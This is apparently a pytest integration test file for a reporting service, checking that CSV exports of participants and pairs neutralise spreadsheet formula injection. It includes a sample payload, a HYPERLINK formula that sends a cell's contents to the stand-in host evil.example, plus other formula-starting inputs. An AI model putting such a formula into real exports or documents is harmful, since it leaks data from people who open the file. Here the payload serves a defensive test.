"""CSV exports neutralise spreadsheet formulas (issue 13): a display name or department that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return arrives by event and leaves the export with a
leading single quote, so a spreadsheet shows it as text instead of running it."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date

import pytest

from bridge_reporting.domain.cells import neutralise
from bridge_shared.contracts import matching as m
from tests.reporting.conftest import HR, eventually, publish
from tests.reporting.scenario import Scenario, day
from tests.service_harness import RunningService

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'


async def test_a_formula_in_a_display_name_leaves_the_csv_export_as_text(reporting: RunningService) -> None:
    prefix = f"f{uuid.uuid4().hex[:10]}"
    sc = Scenario(prefix, f"{prefix}-cohort")
    sc.add(
        m.CohortCreatedV1(
            cohort_id=sc.cohort_id,
            name=f"Cohort {prefix}",
            regions=["EMEA"],
            hr_contact_email="hr@bridge.example",
            programme_start=date(2026, 3, 2),
            programme_end=date(2026, 8, 31),
        ),
        day(-10),
    )
    names = {"mentor": HYPERLINK, "mentee": "@SUM(1+1)"}
    departments = {"mentor": "+1-555-0100", "mentee": "-2+3"}
    refs = {}
    for i, role in enumerate(("mentor", "mentee")):
        refs[role] = m.ParticipantRef(
            participant_id=f"{prefix}-{role}",
            employee_id=f"E{prefix}{i}",
            display_name=names[role],
            email=f"{role}@bridge.example",
            region="EMEA",
            department=departments[role],
            seniority_level=3 if role == "mentor" else 9,
            timezone="Europe/London",
        )
        sc.add(
            m.ParticipantEnrolledV1(
                participant_id=refs[role].participant_id,
                cohort_id=sc.cohort_id,
                role=role,  # type: ignore[arg-type]
                profile=refs[role],
            ),
            day(-9 + i * 0.01),
        )
    pair_id = f"{prefix}-pair"
    sc.add(
        m.PairFormedV1(
            pair_id=pair_id,
            cohort_id=sc.cohort_id,
            mentor=refs["mentor"],
            mentee=refs["mentee"],
            explanation=m.MatchExplanation(score=0.8, breakdown={"skills": 0.5}, summary="fit"),
            formed_at=day(-1),
            proposal_id=None,
        ),
        day(-1),
    )
    await publish(reporting, sc.events)
    params = {"cohort_id": sc.cohort_id}

    async def pairs() -> list[dict[str, str]]:
        r = await reporting.client.get("/reports/exports/pairs.csv", params=params, headers=HR)
        assert r.status_code == 200, r.text
        return list(csv.DictReader(io.StringIO(r.text)))

    (row,) = await eventually(pairs, what="the pair in the export")
    assert row["mentor_name"] == "'" + HYPERLINK
    assert row["mentee_name"] == "'@SUM(1+1)"

    async def participants() -> list[dict[str, str]]:
        r = await reporting.client.get("/reports/exports/participants.csv", params=params, headers=HR)
        rows = list(csv.DictReader(io.StringIO(r.text)))
        return rows if len(rows) == 2 else []

    rows = await eventually(participants, what="both participants in the export")
    assert sorted(r["department"] for r in rows) == ["'+1-555-0100", "'-2+3"]
    # Nothing in either file starts a formula.
    for written in (row, *rows):
        for value in written.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), written


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_neutralise(cell: object, written: object) -> None:
    assert neutralise(cell) == written
